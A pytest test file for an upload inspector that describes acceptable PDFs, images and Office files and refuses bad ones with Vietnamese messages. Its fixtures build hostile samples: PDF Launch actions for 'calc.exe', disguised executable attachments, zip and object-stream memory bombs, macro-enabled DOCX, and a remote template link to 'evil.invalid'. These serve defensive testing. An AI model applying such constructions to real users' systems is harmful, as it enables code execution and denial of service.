"""Files from strangers: good ones are described, bad ones refused with a reason and a remedy."""

from __future__ import annotations

import hashlib
import io
import zipfile
from functools import cache

import pikepdf
import pytest
from PIL import Image

from toaan.engines.pdf import DOCX, JPEG, PDF, PNG, XLSX, FileRefused, inspect_file, packed
from toaan.engines.pdf.render import render_plain

ALL = (PDF, JPEG, PNG, DOCX, XLSX)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def a_pdf(pages=1, change=None, **save):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def an_image(kind, size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, kind)
    return out.getvalue()


def an_office_file(main, extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{main}"/></Types>')
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def inspect(content, name="don.pdf", **limits):
    return inspect_file(content, name=name, allowed=ALL, **{"max_bytes": 50_000_000, **limits})


@pytest.mark.parametrize(
    ("name", "content", "media_type", "pages"),
    [
        ("Đơn khởi kiện.PDF", a_pdf(3), PDF, 3),
        ("cccd.jpg", an_image("JPEG"), JPEG, 1),
        ("cccd.jpeg", an_image("JPEG"), JPEG, 1),
        ("ảnh chụp.png", an_image("PNG"), PNG, 1),
        ("bản tự khai.docx", an_office_file(WORD_MAIN), DOCX, None),
        ("bảng kê.xlsx", an_office_file(SHEET_MAIN), XLSX, None),
    ],
)
def test_describes_a_good_file(name, content, media_type, pages):
    facts = inspect(content, name)
    assert (facts.media_type, facts.pages, facts.size) == (media_type, pages, len(content))
    assert facts.sha256 == hashlib.sha256(content).hexdigest()
    assert facts.warnings == ()
    assert not facts.has_signatures


def test_reads_a_file_on_the_disk_without_changing_it(tmp_path):
    path = tmp_path / "x"
    content = a_pdf(change=lambda pdf: pdf.docinfo.__setitem__("/Title", "Hợp đồng vay"))
    path.write_bytes(content)
    path.chmod(0o400)
    facts = inspect(path, "hop-dong.pdf")
    assert facts.title == "Hợp đồng vay"
    assert path.read_bytes() == content


def launch(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"), Type=pikepdf.Name.Action
    )


def launch_deep_inside_an_annotation(pdf):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("x"))
    pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action)])


def attach(name):
    def change(pdf):
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename=name)

    return change


ENCRYPTED = {"encryption": pikepdf.Encryption(user="1234", owner="5678")}
LOCKED = a_pdf(encryption=pikepdf.Encryption(user="", owner="5678"))
BOMB = b"0" * 1_000_000
PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


@cache
def a_zip_bomb():
    """Half a megabyte; unpacked, half a gigabyte."""
    return an_office_file(WORD_MAIN, [(f"{n}.xml", BOMB) for n in range(530)])


@cache
def a_packed_bomb(letters=20_000_000):
    """A few hundred kilobytes; opened, a string in an object stream."""

    def change(pdf):
        pdf.Root.Bomb = pdf.make_indirect(pikepdf.Array([pikepdf.String("0" * letters)]))

    return a_pdf(change=change, **PACKED)


REFUSED = [
    ("empty", "x.pdf", b"", {}),
    ("too_large", "x.pdf", a_pdf() + b"\0" * 2_000_000, {"max_bytes": 1_000_000}),
    ("not_allowed", "x.exe", b"MZ\x90", {}),
    ("not_allowed", "khong-duoi", a_pdf(), {}),
    ("wrong_type", "x.pdf", an_image("JPEG"), {}),
    ("wrong_type", "x.pdf", b"MZ\x90\x00" * 100, {}),
    ("wrong_type", "x.jpg", a_pdf(), {}),
    ("wrong_type", "x.docx", an_office_file(SHEET_MAIN), {}),
    ("wrong_type", "x.docx", an_office_file("application/zip"), {}),
    ("broken", "x.pdf", b"%PDF-1.7\n" + b"garbage " * 50, {}),
    ("broken", "x.pdf", b"\0" * 5000, {}),
    ("broken", "x.png", an_image("PNG")[:-30], {}),
    ("broken", "x.jpg", an_image("JPEG", (900, 900))[:-4000], {}),
    ("no_pages", "x.pdf", a_pdf(0), {}),
    ("too_many_pages", "x.pdf", a_pdf(11), {"max_pages": 10}),
    ("encrypted", "x.pdf", a_pdf(**ENCRYPTED), {}),
    ("encrypted", "x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, {}),
    ("active_content", "x.pdf", a_pdf(change=launch), {}),
    ("active_content", "x.pdf", a_pdf(change=launch_deep_inside_an_annotation), {}),
    ("active_content", "x.pdf", a_pdf(change=attach("hoa don.EXE")), {}),
    ("active_content", "x.pdf", a_pdf(change=attach("hoa don.pdf.js. ")), {}),
    ("too_many_pixels", "x.png", an_image("PNG", (2000, 2000)), {"max_pixels": 1_000_000}),
    ("too_many_pixels", "x.jpg", an_image("JPEG", (2000, 2000)), {"max_pixels": 1_000_000}),
    ("macros", "x.docx", an_office_file(MACRO_MAIN), {}),
    ("macros", "x.docx", an_office_file(WORD_MAIN, [("word/vbaProject.bin", b"x")]), {}),
    (
        "active_content",
        "x.docx",
        an_office_file(
            WORD_MAIN,
            [
                (
                    "word/_rels/settings.xml.rels",
                    '<Relationships><Relationship Type="x/attachedTemplate" '
                    'Target="https://evil.invalid/t.dotm" TargetMode="External"/></Relationships>',
                )
            ],
        ),
        {},
    ),
    ("too_large", "x.docx", a_zip_bomb(), {}),
]


def test_a_small_file_that_fills_the_memory_is_refused_and_only_a_child_suffered(monkeypatch):
    monkeypatch.setattr(packed, "MEMORY", 120_000_000)
    content = a_packed_bomb()
    assert len(content) < 200_000
    with pytest.raises(FileRefused) as caught:
        inspect(content, "bom.pdf")
    # qpdf may find no memory for one object, or for the whole: either way it does not come in.
    assert caught.value.code in {"too_large", "broken"}


@pytest.mark.parametrize("limits", [{}, {"max_pages": 2}])
def test_a_packed_file_is_judged_as_any_other(limits):
    tight, plain = a_pdf(3, **PACKED), a_pdf(3)
    assert b"/ObjStm" in tight and b"/ObjStm" not in plain
    said = []
    for content in (tight, plain):
        try:
            said.append(inspect(content, **limits).pages)
        except FileRefused as refusal:
            said.append(refusal.message)
    assert said[0] == said[1]


@pytest.mark.parametrize(
    ("code", "name", "content", "limits"),
    REFUSED,
    ids=[f"{number}-{row[0]}" for number, row in enumerate(REFUSED)],
)
def test_refuses_with_a_reason_and_a_remedy(code, name, content, limits):
    with pytest.raises(FileRefused) as caught:
        inspect(content, name, **limits)
    assert caught.value.code == code, caught.value.message
    assert name in caught.value.message
    assert "ãy " in caught.value.message  # "Hãy …": what to do now


def test_a_picture_cut_off_is_refused_after_a_paper_was_rendered_too():
    render_plain("<p>Giấy biên nhận</p>", "")
    with pytest.raises(FileRefused, match="chưa tải đủ"):
        inspect(an_image("JPEG", (900, 900))[:-4000], "x.jpg")


def test_a_file_cut_off_by_a_bad_line_is_broken_or_said_to_be_damaged():
    content = a_pdf(5)
    for cut in (20, 100, len(content) // 2, len(content) - 10):
        try:
            facts = inspect(content[:cut])
        except FileRefused as refused:
            assert refused.code in ("broken", "no_pages")
        else:
            assert "lỗi cấu trúc" in " ".join(facts.warnings)


def test_states_the_limit_that_was_passed():
    with pytest.raises(FileRefused, match="1,5 MB, vượt giới hạn 1 MB"):
        inspect(b"x" * 1_572_864, max_bytes=1024 * 1024)


def test_only_the_kinds_of_this_door_come_in():
    with pytest.raises(FileRefused, match="Hãy gửi tệp PDF, ảnh PNG") as caught:
        inspect_file(an_image("JPEG"), name="a.jpg", allowed=[PDF, PNG], max_bytes=10**6)
    assert caught.value.code == "not_allowed"


def test_warns_of_javascript_and_of_restrictions_but_accepts():
    def script(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))

    assert "JavaScript" in inspect(a_pdf(change=script)).warnings[0]
    assert "hạn chế quyền" in inspect(LOCKED).warnings[0]


def test_an_ordinary_attachment_is_accepted():
    assert inspect(a_pdf(change=attach("phu luc.xml"))).pages == 1


def test_a_telephone_photograph_with_several_pictures_is_a_jpeg():
    out = io.BytesIO()
    first, second = Image.new("RGB", (60, 40), "red"), Image.new("RGB", (30, 20), "blue")
    first.save(out, "MPO", save_all=True, append_images=[second])
    assert inspect(out.getvalue(), "IMG_0001.JPG").media_type == JPEG
